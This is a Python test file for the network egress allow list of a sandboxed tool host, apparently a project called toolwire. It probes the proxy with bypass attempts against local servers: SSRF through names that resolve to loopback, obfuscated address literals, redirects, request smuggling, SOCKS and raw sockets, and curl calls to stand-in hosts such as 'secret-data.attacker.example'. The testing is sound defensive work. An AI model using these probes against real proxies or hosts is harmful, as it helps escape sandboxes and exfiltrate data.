"""Egress by allow list: what a sandboxed command may and may not reach through the host's proxy.

End to end through the real host (``toolwire serve`` with the bash tool and a
``[network]`` table): two HTTP servers on the test machine's loopback stand in for an
allowed and a forbidden host, their names pinned to 127.0.0.1 by ``[network.resolve]``
(a pinned address is trusted even though it is loopback). curl and Python inside the
sandbox drive the traffic. Each way out that must stay shut has a test, and each test
checks on the server side that the forbidden host saw no request at all.

The file name puts it in the ordinary-user pass of ``tests/run_unprivileged.sh``.
"""

from __future__ import annotations

import os
import shutil
import socket
import sys
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from toolwire.host.sandbox.egress.policy import NetworkPolicy, address_problem, parse_rule
from toolwire.host.serve.config import ConfigError, load_config_file

from tests.e2e_helpers import text_of
from tests.hostproc import TOOLS_DIR, HostProcess
from tests.sandbox_support import require_boxed, require_sandbox


class _Server:
    """An HTTP server on 127.0.0.1 (an ephemeral port) that records the paths it was asked for.

    ``/redirect`` answers 302 to :attr:`redirect_to`; ``/files/P`` serves the file P of
    :attr:`docroot` (the query ignored, 404 when missing); every other path answers 200
    with ``BODY <name> <path>``."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.paths: list[str] = []
        self.hosts: list[str] = []
        self.bodies: list[bytes] = []
        self.redirect_to = ""
        self.docroot: Path | None = None
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.paths.append(self.path)
                outer.hosts.append(self.headers.get("Host", ""))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    outer.bodies.append(self.rfile.read(length))
                if self.path.startswith("/files/") and outer.docroot is not None:
                    rel = self.path.removeprefix("/files/").split("?")[0]
                    file = outer.docroot / rel
                    if file.is_dir():
                        file = file / "index.html"
                    if ".." in rel.split("/") or not file.is_file():
                        self.send_error(404)
                        return
                    data = file.read_bytes()
                    self.send_response(200)
                    if file.suffix == ".html":
                        self.send_header("Content-Type", "text/html")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
                    return
                if self.path == "/redirect":
                    self.send_response(302)
                    self.send_header("Location", outer.redirect_to)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                body = f"BODY {outer.name} {self.path}\n".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


class _Net:
    def __init__(self, host: HostProcess, allowed: _Server, forbidden: _Server, root: Path) -> None:
        self.host = host
        self.allowed = allowed
        self.forbidden = forbidden
        self.root = root

    def run(self, command: str) -> str:
        """Run ``command`` with the bash tool; its output (whatever its exit code)."""
        self.host.drain()
        return text_of(self.host.call("bash", {"command": command}, timeout=120))

    def py(self, code: str) -> str:
        """Run Python ``code`` in the sandbox (with the host's interpreter)."""
        script = self.root / "probe.py"
        script.write_text(code)
        return self.run(f"{sys.executable} -I {script}; echo rc=$?")

    def refusals(self) -> list[str]:
        """The egress log notifications received since the last :meth:`run`."""
        return [
            m["params"]["data"]
            for m in self.host.drain()
            if isinstance(m, dict)
            and m.get("method") == "notifications/message"
            and m["params"].get("logger") == "egress"
        ]


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Net]:
    require_sandbox()
    base = tmp_path_factory.mktemp("egress")
    root = base / "root"
    root.mkdir()
    allowed, forbidden = _Server("allowed"), _Server("forbidden")
    cfg = base / "toolwire.toml"
    cfg.write_text(
        "[network]\n"
        f'allow = ["allowed.test:{allowed.port}", "localhost:{allowed.port}"]\n'
        "[network.resolve]\n"
        '"allowed.test" = "127.0.0.1"\n'
        '"forbidden.test" = "127.0.0.1"\n'
        '"extra.test" = "127.0.0.1"\n'
        '"other.test" = "127.0.0.1"\n'
        "[network.tools.bash]\n"
        f'allow = ["extra.test:{forbidden.port}"]\n'
        "[network.tools.read]\n"
        f'allow = ["other.test:{forbidden.port}"]\n'
        "[network.modules.egress_tools]\n"
        f'allow = ["other.test:{forbidden.port}"]\n'
    )
    args = ["--root", str(root), "--sandbox", "bwrap", "--no-entry-points", "--config", str(cfg)]
    args += ["--tools", str(TOOLS_DIR / "egress_tools.py")]
    try:
        with HostProcess(args) as h:
            h.initialize()
            require_boxed(h)
            yield _Net(h, allowed, forbidden, root)
    finally:
        allowed.close()
        forbidden.close()


def _body(server: _Server, path: str) -> str:
    return f"BODY {server.name} {path}"


# ------------------------------------------------------------------ what gets through


def test_allowed_host_is_reached_over_plain_http_and_connect(net: _Net) -> None:
    a = net.allowed.port
    got = net.run(
        f"curl -sS http://allowed.test:{a}/plain; curl -sS -p http://allowed.test:{a}/tunnel"
    )
    assert _body(net.allowed, "/plain") in got and _body(net.allowed, "/tunnel") in got, got
    got = net.py(
        "import urllib.request\n"
        f"print(urllib.request.urlopen('http://allowed.test:{a}/py').read().decode())\n"
    )
    assert _body(net.allowed, "/py") in got and "rc=0" in got, got
    assert net.refusals() == []


def test_request_bodies_are_forwarded_intact(net: _Net) -> None:
    payload = net.root / "payload.bin"
    payload.write_bytes(bytes(range(256)) * 4096)
    got = net.run(f"curl -sS --data-binary @{payload} http://allowed.test:{net.allowed.port}/up")
    assert _body(net.allowed, "/up") in got, got
    assert payload.read_bytes() in net.allowed.bodies


def test_socks5_connect_is_checked_like_http_connect(net: _Net) -> None:
    a, f = net.allowed.port, net.forbidden.port
    socks = "--socks5-hostname 127.0.0.1:3128"
    got = net.run(
        f"curl -sS {socks} http://allowed.test:{a}/socks; echo;"
        f" curl -sS {socks} http://forbidden.test:{f}/socks-leak; echo rc=$?;"
        f" curl -sS --socks5 127.0.0.1:3128 http://127.0.0.1:{a}/socks-ip; echo rc=$?"
    )
    assert _body(net.allowed, "/socks") in got and got.count("rc=97") == 2, got
    logs = net.refusals()
    assert len(logs) == 2 and "not in the network allow list" in logs[0], logs
    assert "IP address literal" in logs[1], logs
    assert "/socks-leak" not in net.forbidden.paths and "/socks-ip" not in net.allowed.paths


def _wheel(path: Path, name: str, version: str) -> None:
    """A minimal pure-Python wheel of ``name`` (one module printing its name) at ``path``."""
    import base64
    import hashlib
    import zipfile

    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}.py": f"print('{name} imported')\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for file, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{file},sha256={digest.decode()},{len(text.encode())}")
    record.append(f"{info}/RECORD,,")
    files[f"{info}/RECORD"] = "\n".join(record) + "\n"
    with zipfile.ZipFile(path, "w") as zf:
        for file, text in files.items():
            zf.writestr(file, text)


def test_pip_and_git_fetch_from_an_allowed_host_only(
    net: _Net, tmp_path_factory: pytest.TempPathFactory
) -> None:
    import subprocess

    docroot = tmp_path_factory.mktemp("served")
    net.allowed.docroot = net.forbidden.docroot = docroot
    _wheel(docroot / "egress_demo-1.0-py3-none-any.whl", "egress_demo", "1.0")
    index = docroot / "simple" / "egress-demo"
    index.mkdir(parents=True)
    (index / "index.html").write_text(
        '<a href="../../egress_demo-1.0-py3-none-any.whl">egress_demo-1.0-py3-none-any.whl</a>\n'
    )
    work = docroot / "work"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q", str(work)], check=True)
    (work / "README").write_text("fetched through the egress proxy\n")
    subprocess.run([*git, "-C", str(work), "add", "README"], check=True)
    subprocess.run([*git, "-C", str(work), "commit", "-qm", "one"], check=True)
    subprocess.run(
        [*git, "clone", "-q", "--bare", str(work), str(docroot / "repo.git")], check=True
    )
    subprocess.run(["git", "-C", str(docroot / "repo.git"), "update-server-info"], check=True)
    a, f = net.allowed.port, net.forbidden.port
    pip = (
        f"{sys.executable} -m pip install -q --no-cache-dir --disable-pip-version-check"
        f" --no-deps --target {net.root}/site --trusted-host allowed.test --trusted-host forbidden.test"
    )
    got = net.run(
        f"{pip} --index-url http://allowed.test:{a}/files/simple/ egress-demo && "
        f"PYTHONPATH={net.root}/site {sys.executable} -c 'import egress_demo' && "
        f"git clone -q http://allowed.test:{a}/files/repo.git {net.root}/clone && "
        f"cat {net.root}/clone/README"
    )
    assert "egress_demo imported" in got and "fetched through the egress proxy" in got, got
    got = net.run(
        f"{pip} --retries 0 --index-url http://forbidden.test:{f}/files/simple/ egress-demo;"
        f" echo rc=$?; git clone -q http://forbidden.test:{f}/files/repo.git {net.root}/c2; echo rc=$?"
    )
    assert "rc=0" not in got, got
    assert not any(p.startswith("/files/") for p in net.forbidden.paths), net.forbidden.paths
    assert any("forbidden.test" in line for line in net.refusals())


def test_instructions_say_what_is_allowed(net: _Net) -> None:
    init = net.host.initialize()
    text = init["result"].get("instructions", "")
    assert f"allowed.test:{net.allowed.port}" in text, text
    assert "The tool bash may also reach" in text, text


def test_tool_allow_list_adds_only_for_that_tool(net: _Net) -> None:
    f = net.forbidden.port
    got = net.run(f"curl -sS http://extra.test:{f}/x; curl -sS http://other.test:{f}/y")
    assert _body(net.forbidden, "/x") in got, got  # [network.tools.bash]
    assert "other.test" in got and "not in the network allow list for tool bash" in got, got
    assert "/y" not in net.forbidden.paths


def test_module_allow_list_applies_to_its_workers_only(net: _Net) -> None:
    a, f = net.allowed.port, net.forbidden.port

    def fetch(url: str) -> str:
        net.host.drain()
        return text_of(net.host.call("fetch", {"url": url}, timeout=120))

    assert _body(net.allowed, "/w1") in fetch(f"http://allowed.test:{a}/w1")
    assert _body(net.forbidden, "/w2") in fetch(f"http://other.test:{f}/w2")  # the module's own
    got = fetch(f"http://extra.test:{f}/w3")  # the bash tool's, not the module's
    assert got.startswith("HTTP 403: ") and "for module egress_tools" in got, got
    assert "/w3" not in net.forbidden.paths
    logs = [
        m["params"]
        for m in net.host.drain()
        if isinstance(m, dict) and m.get("method") == "notifications/message"
    ]
    assert any(
        p["level"] == "warning" and p.get("logger") == "toolwire" and "extra.test" in p["data"]
        for p in logs
    ), logs


# ------------------------------------------------------------------ what must not


def test_forbidden_name_gets_403_with_the_reason_and_a_log_notification(net: _Net) -> None:
    f = net.forbidden.port
    got = net.run(
        f"curl -sS -o /dev/stderr -w 'status=%{{http_code}}' http://forbidden.test:{f}/leak"
    )
    assert "status=403" in got and "not in the network allow list" in got, got
    got = net.run(f"curl -sS -p http://forbidden.test:{f}/leak2; echo rc=$?")
    assert "403" in got and "rc=56" in got, got  # curl: CONNECT refused
    logs = net.refusals()
    assert any("forbidden.test" in line for line in logs), logs
    assert not any("leak" in p for p in net.forbidden.paths)


@pytest.mark.parametrize(
    "target",
    ["127.0.0.1", "2130706433", "0x7f.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]"],
)
def test_address_literals_are_refused(net: _Net, target: str) -> None:
    a = net.allowed.port
    got = net.run(
        f"curl -sS -g http://{target}:{a}/ip-plain; curl -sS -g -p http://{target}:{a}/ip-tunnel"
    )
    assert "BODY" not in got and "response 403" in got, got
    logs = net.refusals()
    assert len(logs) == 2, logs
    assert all("literal" in line or "numeric address" in line for line in logs), logs
    assert not any(p.startswith("/ip-") for p in net.allowed.paths), net.allowed.paths


def test_direct_connections_have_no_route(net: _Net) -> None:
    # The sandbox's 127.0.0.1 is its own: the host's servers are not there.
    got = net.run(
        f"curl -sS --noproxy '*' http://127.0.0.1:{net.allowed.port}/direct; echo rc=$?;"
        f" curl -sS --noproxy '*' -g http://[::1]:{net.allowed.port}/direct6; echo rc=$?"
    )
    assert "BODY" not in got and got.count("rc=7") == 2, got
    got = net.py(
        "import socket, errno\n"
        "for addr in [('192.0.2.1', 80), ('8.8.8.8', 53), ('10.0.0.1', 443)]:\n"
        "    s = socket.socket()\n"
        "    try:\n"
        "        s.connect(addr); print('CONNECTED', addr)\n"
        "    except OSError as e:\n"
        "        print('refused', addr, errno.errorcode.get(e.errno))\n"
    )
    assert "CONNECTED" not in got and got.count("ENETUNREACH") == 3, got


def test_other_ports_of_an_allowed_name_are_refused(net: _Net) -> None:
    f = net.forbidden.port
    got = net.run(f"curl -sS http://allowed.test:{f}/port; curl -sS -p http://allowed.test:{f}/p2")
    assert "BODY" not in got and got.count("not in the network allow list") >= 1, got
    assert "/port" not in net.forbidden.paths and "/p2" not in net.forbidden.paths


def test_the_sandbox_resolves_nothing_itself(net: _Net) -> None:
    got = net.py(
        "import socket\n"
        "for name in ['allowed.test', 'example.com', 'leak.attacker.example']:\n"
        "    try:\n"
        "        print('RESOLVED', name, socket.getaddrinfo(name, 80))\n"
        "    except OSError as e:\n"
        "        print('no lookup', name, type(e).__name__)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        "    s.sendto(b'q', ('8.8.8.8', 53)); print('SENT')\n"
        "except OSError as e:\n"
        "    print('udp', e.errno)\n"
    )
    assert "RESOLVED" not in got and "SENT" not in got and got.count("no lookup") == 3, got
    # A name off the list is refused before the host looks it up: the reason is the
    # policy's, never a resolver error (which would mean a DNS query had gone out).
    net.run(
        "curl -sS http://secret-data.attacker.example/; curl -sS -p https://x.attacker.example/"
    )
    logs = net.refusals()
    assert len(logs) == 2 and all("not in the network allow list" in line for line in logs), logs
    assert not any("resolve" in line for line in logs), logs


def test_allowed_name_resolving_to_loopback_is_refused_unless_pinned(net: _Net) -> None:
    a = net.allowed.port
    got = net.run(f"curl -sS http://localhost:{a}/ssrf; curl -sS -p http://localhost:{a}/ssrf2")
    assert "resolves to 127.0.0.1, not a public address" in got and "response 403" in got, got
    logs = net.refusals()
    assert len(logs) == 2 and all("resolves to 127.0.0.1" in line for line in logs), logs
    assert not any(p.startswith("/ssrf") for p in net.allowed.paths)


def test_redirect_to_a_forbidden_host_is_not_followed(net: _Net) -> None:
    net.allowed.redirect_to = f"http://forbidden.test:{net.forbidden.port}/stolen"
    got = net.run(f"curl -sS -L http://allowed.test:{net.allowed.port}/redirect")
    assert "/redirect" in net.allowed.paths
    assert "not in the network allow list" in got, got
    assert "/stolen" not in net.forbidden.paths
    assert any("forbidden.test" in line for line in net.refusals())


def test_host_unix_sockets_other_than_the_proxys_are_unreachable(net: _Net, tmp_path: Path) -> None:
    # A short directory: under the ordinary-user pass tmp_path is too long for a socket.
    path = Path(tempfile.mkdtemp(prefix="twsock-", dir="/tmp")) / "host.sock"
    listeners = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    listeners[0].bind(str(path))
    listeners[1].bind("\0toolwire-egress-test-abstract")
    for s in listeners:
        s.listen()
    try:
        got = net.py(
            "import socket\n"
            f"for addr in [{str(path)!r}, '\\0toolwire-egress-test-abstract']:\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n"
            "        s.connect(addr); print('CONNECTED', repr(addr))\n"
            "    except OSError as e:\n"
            "        print('unreachable', type(e).__name__)\n"
        )
    finally:
        for s in listeners:
            s.close()
        shutil.rmtree(path.parent, ignore_errors=True)
    assert "CONNECTED" not in got and got.count("unreachable") == 2, got


def test_raw_packet_and_vsock_sockets_cannot_be_made(net: _Net) -> None:
    got = net.py(
        "import socket\n"
        "kinds = [('raw', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n"
        "         ('raw6', socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),\n"
        "         ('packet', socket.AF_PACKET, socket.SOCK_RAW, 0),\n"
        "         ('vsock', socket.AF_VSOCK, socket.SOCK_STREAM, 0)]\n"
        "for name, family, kind, proto in kinds:\n"
        "    try:\n"
        "        s = socket.socket(family, kind, proto)\n"
        "    except OSError as e:\n"
        "        print('denied', name, e.errno)\n"
        "        continue\n"
        "    if name == 'vsock':\n"
        "        try:\n"
        "            s.connect((2, 1234)); print('MADE', name)\n"
        "        except OSError as e:\n"
        "            print('denied', name, e.errno)\n"
        "    else:\n"
        "        print('MADE', name)\n"
    )
    assert "MADE" not in got and got.count("denied") == 4, got


def test_one_checked_request_per_connection_and_the_checked_host_in_host(net: _Net) -> None:
    a, f = net.allowed.port, net.forbidden.port
    got = net.py(
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        f"s.sendall(b'GET http://allowed.test:{a}/first HTTP/1.1\\r\\nHost: forbidden.test:{f}\\r\\n\\r\\n'\n"
        f"          b'GET http://forbidden.test:{f}/smuggled HTTP/1.1\\r\\nHost: forbidden.test\\r\\n\\r\\n')\n"
        "data = b''\n"
        "while chunk := s.recv(65536):\n"
        "    data += chunk\n"
        "print(data.decode())\n"
    )
    assert _body(net.allowed, "/first") in got and got.count("HTTP/1.") == 1, got
    assert net.allowed.hosts[net.allowed.paths.index("/first")] == f"allowed.test:{a}"
    assert "/smuggled" not in net.forbidden.paths and "/smuggled" not in net.allowed.paths


def test_the_proxy_has_no_surface_of_its_own(net: _Net) -> None:
    got = net.run(
        "curl -sS --noproxy '*' http://127.0.0.1:3128/; "
        "curl -sS --unix-socket /run/toolwire/egress.sock http://proxy/admin; "
        "curl -sS --noproxy '*' -X OPTIONS 'http://127.0.0.1:3128/*'; "
        "curl -sS -x http://127.0.0.1:3128 ftp://allowed.test/x"
    )
    assert got.count("nothing of its own to serve") == 4, got
    # The relay's own port is an address literal, refused like any other.
    net.run("curl -sS -p http://127.0.0.1:3128/")
    assert any("IP address literal" in line for line in net.refusals())


# ------------------------------------------------------------------ configuration


def test_rules_match_names_ports_and_wildcards() -> None:
    policy = NetworkPolicy.from_table(
        {"allow": ["pypi.org", "*.github.com", "git.example.org:8443"]}
    ).for_scope()
    assert policy.check("pypi.org", 443) is None and policy.check("PyPI.org.", 80) is None
    assert policy.check("pypi.org", 8080) is not None
    assert policy.check("evil-pypi.org", 443) is not None
    assert policy.check("api.github.com", 443) is None
    assert policy.check("github.com", 443) is not None  # *.domain is below it only
    assert policy.check("api.github.com.evil.net", 443) is not None
    assert policy.check("git.example.org", 8443) is None
    assert policy.check("git.example.org", 443) is not None
    assert address_problem("127.0.0.1") and address_problem("10.1.2.3")
    assert address_problem("169.254.169.254") and address_problem("::ffff:192.168.0.1")
    assert address_problem("fd00::1") and address_problem("100.64.0.1")
    assert address_problem("8.8.8.8") is None


@pytest.mark.parametrize(
    "rule", ["1.2.3.4", "[::1]", "::1", "*", "a.*.com", "host:0", "x:99999", "*.com"]
)
def test_bad_rules_are_refused(rule: str) -> None:
    with pytest.raises(ValueError):
        parse_rule(rule)


def test_config_file_errors_name_the_line(tmp_path: Path) -> None:
    cfg = tmp_path / "toolwire.toml"
    cfg.write_text('[network]\nallow = ["ok.example", "10.0.0.1"]\n')
    with pytest.raises(ConfigError, match=r"toolwire.toml:2: \[network\] allow\[1\].*IP address"):
        load_config_file(cfg)
    cfg.write_text("[network]\nblock = []\n")
    with pytest.raises(ConfigError, match=r"unknown key 'block'"):
        load_config_file(cfg)
    cfg.write_text('[network.resolve]\n"a.example" = "not-an-ip"\n')
    with pytest.raises(ConfigError, match="not an IPv4 or IPv6 address"):
        load_config_file(cfg)
    cfg.write_text('[network.tools.bash]\nallow = "pypi.org"\n')
    with pytest.raises(ConfigError, match=r":2: \[network\] tools.bash.allow: .*list"):
        load_config_file(cfg)
    cfg.write_text("[sandbox]\nallow_network = true\n[network]\nallow = []\n")
    proc = HostProcess(["--config", str(cfg), "--no-entry-points"])
    try:
        assert proc.wait(timeout=60) != 0
    finally:
        proc.close()
    assert "allow_network = true gives them the whole network" in proc.stderr


def test_an_unsandboxed_host_says_the_allow_list_is_not_enforced(tmp_path: Path) -> None:
    cfg = tmp_path / "toolwire.toml"
    cfg.write_text('[network]\nallow = ["pypi.org"]\n')
    args = ["--root", str(tmp_path), "--sandbox", "none", "--no-entry-points", "--config", str(cfg)]
    with HostProcess(args) as h:
        text = h.initialize()["result"].get("instructions", "")
    assert "The [network] allow list is NOT enforced." in text, text


def test_the_proxy_sockets_fit_a_socket_address_under_a_long_temporary_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from toolwire.host.sandbox.egress import proxy as egress

    deep = tmp_path / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(deep))
    assert egress._socket_parent() == "/tmp"
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path.parent))
    if len(str(tmp_path.parent)) <= egress.SOCKET_PATH_ROOM:
        assert egress._socket_parent() is None


def test_a_url_in_the_allow_list_is_refused_as_a_url() -> None:
    for url in ("http://a.test/", "https://a.test", "a.test/simple"):
        with pytest.raises(ValueError, match="not a URL"):
            parse_rule(url)


def test_a_refusal_carries_its_reason_phrase() -> None:
    from toolwire.host.sandbox.egress import proxy

    assert proxy._reason(403) == b"Forbidden" and proxy._reason(502) == b"Bad Gateway"


def _sandboxed_pythons(root: Path) -> dict[int, tuple[int, list[str]]]:
    """The Python processes whose command line names ``root``: host pid → (parent pid,
    argv). A worker sandbox holds two, children of its init: the worker and its egress
    relay (whose command line holds the worker's, after ``--``)."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().decode(errors="replace").split("\0")
            status = (entry / "status").read_text()
            comm = (entry / "comm").read_text().strip()
        except OSError:
            continue
        fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
        alive = fields.get("State", "Z")[0] != "Z"
        if comm.startswith("python") and alive and any(str(root) in a for a in argv):
            found[int(entry.name)] = (int(fields["PPid"]), argv)
    return found


def test_a_workers_relay_sits_in_the_workers_cgroups(net: _Net) -> None:
    from toolwire.host.sandbox.egress.proxy import RELAY_SCRIPT

    from tests.sandbox_support import pids_cgroup_expected

    url = f"http://allowed.test:{net.allowed.port}/cg"
    assert _body(net.allowed, "/cg") in text_of(net.host.call("fetch", {"url": url}, timeout=120))
    pythons = _sandboxed_pythons(net.root)

    # A spawned worker's relay runs relay.py; a forked worker's init forks its relay,
    # which shows itself as such (toolwire.host.workers.worker RELAY_NAME).
    def is_relay(argv: list[str]) -> bool:
        return RELAY_SCRIPT in argv or any("toolwire-worker-egress-relay" in a for a in argv)

    relays = {pid: ppid for pid, (ppid, argv) in pythons.items() if is_relay(argv)}
    workers = {
        ppid: pid
        for pid, (ppid, argv) in pythons.items()
        if not is_relay(argv) and ppid in relays.values()
    }
    assert relays and set(relays.values()) == set(workers), pythons
    for relay, parent in relays.items():
        groups = Path(f"/proc/{relay}/cgroup").read_text()
        assert groups == Path(f"/proc/{workers[parent]}/cgroup").read_text(), groups
        if os.geteuid() == 0 and pids_cgroup_expected():
            # The worker's own groups (pids, and memory where the host can make one).
            assert "/toolwire-" in groups and groups != Path("/proc/self/cgroup").read_text()


def test_the_relay_execs_the_command_or_says_why_it_cannot(tmp_path: Path) -> None:
    # The relay finds the program on PATH itself (it imports no os): the command's own
    # exit status, 127 for a program that is not there, 126 for one that cannot run.
    import dataclasses
    import subprocess

    from toolwire.host.sandbox import Sandbox

    from tests.sandbox_support import SANDBOX

    require_sandbox()
    network = NetworkPolicy.from_table({"allow": ["a.test"]})
    boxed = dataclasses.replace(
        SANDBOX, settings=dataclasses.replace(SANDBOX.settings, network=network)
    )
    (tmp_path / "not-executable").write_text("#!/bin/sh\n")
    cases = [
        (["sh", "-c", "echo ran; exit 7"], 7, ""),
        (["no-such-program-here"], 127, "no-such-program-here: No such file or directory"),
        ([str(tmp_path / "not-executable")], 126, "Permission denied"),
    ]
    for argv, code, message in cases:
        wrapped = boxed.wrap(argv, root=tmp_path, cwd=tmp_path, env={"PATH": "/usr/bin:/bin"})
        try:
            done = subprocess.run(
                wrapped.argv,
                env=wrapped.env,
                pass_fds=wrapped.pass_fds,
                capture_output=True,
                timeout=120,
            )
        finally:
            Sandbox.cleanup(wrapped)
        assert "relay.py" in " ".join(wrapped.argv), wrapped.argv
        assert done.returncode == code and message in done.stderr.decode(), (argv, done)
